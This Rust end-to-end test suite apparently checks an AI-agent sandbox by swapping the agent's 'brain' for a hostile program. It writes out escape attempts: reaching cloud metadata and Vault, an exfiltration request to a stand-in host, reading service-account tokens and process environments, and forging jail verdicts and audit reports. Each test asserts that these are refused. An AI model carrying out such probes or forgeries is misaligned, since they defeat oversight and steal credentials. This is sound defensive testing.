//! The attacker owns the whole brain: a program of his runs in its place, in the same jail and under the same user.

use redoubt_e2e::cluster::{Cluster, Phase, Team};
use serde_json::{Value, json};

use super::cluster;

/// A team whose agent runs the attacker in place of the brain.
pub(super) fn hostile_team<'a>(cluster: &'a Cluster, namespace: &str) -> Team<'a> {
    let image = |name: &str| cluster.image(name).expect("an image");
    let class = json!({"apiVersion": "platform.redoubt.dev/v1alpha1", "kind": "IsolationClass",
        "metadata": {"name": "hostile"}, "spec": {"runtimeClassName": "kata-qemu",
            "images": {"egress": image("egress"), "tools": image("tools"), "agent": image("hostile")}}});
    cluster.apply(&class.to_string()).expect("the class");
    let team = Team::without_agent(cluster, namespace).expect("the team");
    let manifest = team
        .manifest("3-agent.yaml")
        .expect("the manifest")
        .replace("spec:\n  runtime:", "spec:\n  isolationClassName: hostile\n  runtime:");
    cluster.apply(&manifest).expect("the agent");
    cluster.wait_ready(namespace, "helper").expect("the agent is ready");
    team
}

pub(super) fn order(team: &Team<'_>, order: &Value) -> Value {
    let answer = team.cluster.chat(&team.namespace, "helper", &order.to_string()).expect("an answer");
    serde_json::from_str(answer.trim()).unwrap_or_else(|error| panic!("{error}: {answer}"))
}

pub(super) const EGRESS: &str = "/run/redoubt/egress/egress.sock";
const TOOLS: &str = "/run/redoubt/tools/tools.sock";

/// Sends an HTTP request as it is to a socket, and gives the status line and the rest.
pub(super) fn raw(team: &Team<'_>, socket: &str, text: &str) -> String {
    let outcome = order(team, &json!({"do": "raw", "socket": socket, "text": text}));
    outcome["answer"].as_str().unwrap_or_else(|| panic!("no answer: {outcome}")).to_owned()
}

pub(super) fn get(uri: &str, headers: &str) -> String {
    let host = uri.split('/').nth(2).unwrap_or_default();
    format!("GET {uri} HTTP/1.1\r\nhost: {host}\r\n{headers}connection: close\r\n\r\n")
}

const NOTE: &str = "https://echo.redoubt-e2e.svc.cluster.local:8443/v1/notes/7";

#[test]
fn no_socket_leads_out() {
    let cluster = cluster();
    let team = hostile_team(&cluster, "hostile-sockets");
    let sockets = order(&team, &json!({"do": "sockets"}));
    assert_eq!(sockets["opened"], json!([]), "{sockets}");
    assert!(sockets["refused"].as_object().is_some_and(|refused| refused.len() > 15), "{sockets}");
    let service = cluster.get("redoubt-e2e", "service/echo").expect("the service");
    let address = format!("{}:8443", service["spec"]["clusterIP"].as_str().expect("an address"));
    for attempt in [
        json!({"do": "connect", "address": address}),
        json!({"do": "connect", "address": "169.254.169.254:80"}),
        json!({"do": "connect", "address": "127.0.0.1:8081"}),
        json!({"do": "datagram", "address": "8.8.8.8:53"}),
    ] {
        let outcome = order(&team, &attempt);
        assert_eq!(outcome["succeeded"], false, "{attempt}: {outcome}");
    }
}

#[test]
fn brain_cannot_pose_as_a_tool() {
    let cluster = cluster();
    let team = hostile_team(&cluster, "hostile-pose");
    for (what, text) in [
        ("the tool's endpoint", get(NOTE, "")),
        ("the tool's endpoint under the tool's name", get(NOTE, "redoubt-tool: notes\r\n")),
        ("another host", get("https://example.com/", "")),
        (
            "another path of the model's host",
            get("https://model.redoubt-e2e.svc.cluster.local:8443/v1/models", ""),
        ),
        ("Vault", get("https://vault.vault-system.svc.cluster.local:8200/v1/sys/health", "")),
        ("metadata", get("http://169.254.169.254/latest/meta-data/", "")),
        ("the sidecar's own port", get("http://127.0.0.1:8081/readyz", "")),
    ] {
        let answer = raw(&team, EGRESS, &text);
        assert!(answer.starts_with("HTTP/1.1 403 "), "{what}: {answer}");
        assert!(answer.contains("redoubt-refused:"), "{what}: {answer}");
        assert!(!answer.contains(&team.credential), "{what}: {answer}");
    }
    // The benign twin: the same request, made by the hands for the tool.
    let call = json!({"name": "notes__get_note", "arguments": {"id": "7"}, "callId": "twin"}).to_string();
    let text = format!(
        "POST /v1/call HTTP/1.1\r\nhost: tools\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{call}",
        call.len()
    );
    let answer = raw(&team, TOOLS, &text);
    assert!(answer.starts_with("HTTP/1.1 200 ") && answer.contains("note 7"), "{answer}");
    assert!(!answer.contains(&team.credential), "{answer}");
}

#[test]
fn refusals_name_object_and_field() {
    let cluster = cluster();
    let team = hostile_team(&cluster, "hostile-refusals");
    let answer = raw(&team, EGRESS, &get("https://exfiltration.example/drop?data=1", ""));
    let body: Value = serde_json::from_str(answer.split("\r\n\r\n").nth(1).unwrap_or_default())
        .unwrap_or_else(|error| panic!("{error}: {answer}"));
    assert_eq!(body["error"]["object"], "Agent/helper", "{body}");
    for field in ["reason", "field", "message", "help"] {
        assert!(body["error"][field].as_str().is_some_and(|text| !text.is_empty()), "{field}: {body}");
    }
}

#[test]
fn nothing_to_read_and_nowhere_to_write() {
    let cluster = cluster();
    let team = hostile_team(&cluster, "hostile-files");
    for path in [
        "/var/run/secrets/redoubt/vault",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/etc/redoubt/policy/policy.dsse.json",
        "/proc/1/environ",
        "/dev/termination-log",
    ] {
        let outcome = order(&team, &json!({"do": "read", "path": path}));
        // /proc/1 is the attacker himself.
        assert!(path == "/proc/1/environ" || outcome["succeeded"] == false, "{path}: {outcome}");
    }
    for path in [
        "/x",
        "/tmp/x",
        "/etc/redoubt/agent/agent.json",
        "/dev/shm/x",
        "/run/redoubt/egress/x",
        "/redoubt-agent",
    ] {
        let outcome = order(&team, &json!({"do": "write", "path": path}));
        assert_eq!(outcome["succeeded"], false, "{path}: {outcome}");
    }
    let outcome = order(&team, &json!({"do": "write", "path": "/workspace/x"}));
    assert_eq!(outcome["succeeded"], true, "the benign twin: {outcome}");
    let outcome = order(&team, &json!({"do": "execute", "program": "/redoubt-jail"}));
    assert_eq!(outcome["succeeded"], false, "{outcome}");
    let environment = order(&team, &json!({"do": "environment"}));
    assert!(!environment.to_string().contains(&team.credential));
}

#[test]
fn a_verdict_cannot_be_forged() {
    let cluster = cluster();
    let team = hostile_team(&cluster, "hostile-verdict");
    let verdict = json!({"nonce": "guess", "passed": true, "checks": []}).to_string();
    let text = format!(
        "POST /v1/jail/verdict HTTP/1.1\r\nhost: egress\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{verdict}",
        verdict.len()
    );
    let answer = raw(&team, EGRESS, &text);
    assert!(answer.starts_with("HTTP/1.1 4"), "{answer}");
    let report = json!({"tool": "notes", "function": "get_note", "callId": "1", "outcome": "ok"}).to_string();
    let text = format!(
        "POST /v1/audit/tool-call HTTP/1.1\r\nhost: egress\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{report}",
        report.len()
    );
    let answer = raw(&team, EGRESS, &text);
    assert!(answer.starts_with("HTTP/1.1 403 "), "the brain reported a tool's call: {answer}");
    let enforced = Phase { kind: "PolicyEnforced", status: "True", reason: "Enforced" };
    cluster.wait("hostile-verdict", "agents.redoubt.dev/helper", &enforced).expect("still enforced");
}
